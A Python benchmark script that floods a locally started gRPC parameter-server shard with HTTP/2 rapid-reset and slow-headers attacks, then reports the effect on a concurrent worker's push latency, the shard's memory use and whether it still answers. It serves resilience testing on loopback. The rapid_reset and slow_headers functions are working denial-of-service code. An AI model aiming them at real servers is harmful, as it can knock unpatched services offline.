#!/usr/bin/python3
"""HTTP/2 floods against a shard while a worker pushes: rapid reset
(HEADERS then RST_STREAM, as fast as the socket takes them, on several
connections) and slow headers (many connections each opening streams whose
header block never ends). Debian's gRPC 1.51 predates the 2023 rapid-reset
fixes; this measures what such a flood does to a concurrent worker.

Phases, each PHASE seconds, interleaved so machine noise hits both alike:
quiet, rapid reset, quiet, slow headers, quiet. Reported: the worker's push
latency p50/p99 per phase and the ratios against the quiet phases, the
shard's peak RSS, and whether it still answers. Loopback only; every
process and socket it starts is closed at the end.

Usage: FPS_SERVER=build/server/factorps-server FPS_PROTO_DIR=proto \\
       /usr/bin/python3 tests/bench/h2_flood.py [PHASE_SECONDS]"""
import os
import socket
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "interop"))

import numpy as np  # noqa: E402

import fpsharness as H  # noqa: E402
from test_receive_window import END_HEADERS, HEADERS, RST_STREAM, SETTINGS, frame, literal  # noqa: E402

PHASE = float(sys.argv[1]) if len(sys.argv) > 1 else 5.0
CONNS = 4


def peak_rss(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) << 10
    return 0


def hdrs(addr):
    return (literal(b":method", b"POST") + literal(b":scheme", b"http") +
            literal(b":path", b"/factorps.v1.ParameterServer/Stats") + literal(b":authority", addr.encode()) +
            literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


def drain(s):
    try:
        while s.recv(1 << 16):
            pass
    except (BlockingIOError, OSError):
        pass


def rapid_reset(addr, stop, sent):
    host, port = addr.rsplit(":", 1)
    block = hdrs(addr)
    socks = []
    try:
        for _ in range(CONNS):
            s = socket.create_connection((host, int(port)), timeout=5)
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
            s.setblocking(False)
            socks.append([s, 1])
        while not stop.is_set():
            for c in socks:
                s, sid = c
                burst = b"".join(frame(HEADERS, END_HEADERS, sid + 2 * k, block) +
                                 frame(RST_STREAM, 0, sid + 2 * k, b"\x00\x00\x00\x08") for k in range(64))
                try:
                    s.sendall(burst)
                except (BlockingIOError, OSError):
                    drain(s)
                    continue
                c[1] = sid + 128
                sent[0] += 64
                drain(s)
                if c[1] > (1 << 30):  # stream ids run out: a new connection
                    s.close()
                    s = socket.create_connection((host, int(port)), timeout=5)
                    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
                    s.setblocking(False)
                    c[0], c[1] = s, 1
    finally:
        for s, _ in socks:
            s.close()


def slow_headers(addr, stop, sent):
    """Connections that open streams with HEADERS lacking END_HEADERS (a
    header block that never ends), one more every few ms, up to 512."""
    host, port = addr.rsplit(":", 1)
    socks = []
    block = hdrs(addr)
    try:
        while not stop.is_set() and len(socks) < 512:
            try:
                s = socket.create_connection((host, int(port)), timeout=5)
                s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) +
                          frame(HEADERS, 0, 1, block[:len(block) // 2]))
                socks.append(s)
                sent[0] += 1
            except OSError:
                pass
            time.sleep(0.005)
        stop.wait()
    finally:
        for s in socks:
            s.close()


def main():
    srv = H.Server("--mode", "async")
    stub = srv.stub
    H.create(stub, "w", [256, 256], np.zeros(256 * 256, np.float32))
    g = np.full(256 * 256, 1e-3, np.float32)
    lat, phase = {}, ["warmup"]
    stop_all = threading.Event()
    errors = []

    def worker():
        step = 0
        while not stop_all.is_set():
            t0 = time.monotonic()
            try:
                H.push(stub, 0, step, {"w": ([256, 256], g)}, timeout=30)
            except Exception as e:  # noqa: BLE001 - counted and reported
                errors.append((phase[0], repr(e)[:200]))
            lat.setdefault(phase[0], []).append(time.monotonic() - t0)
            step += 1

    wt = threading.Thread(target=worker)
    wt.start()
    time.sleep(1)
    rss0 = peak_rss(srv.proc.pid)
    sent = {}
    try:
        for name, fn in [("quiet1", None), ("slow_headers", slow_headers), ("quiet2", None),
                         ("rapid_reset", rapid_reset), ("quiet3", None)]:
            phase[0] = name
            stop = threading.Event()
            count = [0]
            th = threading.Thread(target=fn, args=(srv.addr, stop, count)) if fn else None
            if th:
                th.start()
            time.sleep(PHASE)
            stop.set()
            if th:
                th.join(30)
            sent[name] = count[0]
    finally:
        stop_all.set()
        wt.join(60)
    rss1 = peak_rss(srv.proc.pid)
    try:
        answer = "version of w = %d" % H.stats(stub, timeout=30)[1]["w"].version
    except Exception as e:  # noqa: BLE001 - reported
        answer = "no: " + repr(e)[:160]
    srv.proc.kill()
    srv.proc.wait(30)

    def pct(xs, q):
        xs = sorted(xs)
        return xs[min(len(xs) - 1, int(q * len(xs)))] if xs else float("nan")

    quiet = lat.get("quiet1", []) + lat.get("quiet2", [])
    q50, q99 = pct(quiet, 0.5), pct(quiet, 0.99)
    print("phase          pushes   p50 ms   p99 ms   p99/quiet  sent")
    for name in ("quiet1", "slow_headers", "quiet2", "rapid_reset", "quiet3"):
        xs = lat.get(name, [])
        print("%-13s %7d %8.2f %8.2f %9.2fx  %s" % (name, len(xs), pct(xs, 0.5) * 1e3, pct(xs, 0.99) * 1e3,
                                                    pct(xs, 0.99) / q99, sent.get(name, "")))
    print("quiet (1, 2): p50 %.2f ms, p99 %.2f ms" % (q50 * 1e3, q99 * 1e3))
    print("shard peak RSS: %.1f MiB before the floods, %.1f MiB after" % (rss0 / 2 ** 20, rss1 / 2 ** 20))
    print("push errors: %d %s" % (len(errors), errors[:3]))
    print("shard still answering: %s" % answer)


if __name__ == "__main__":
    main()
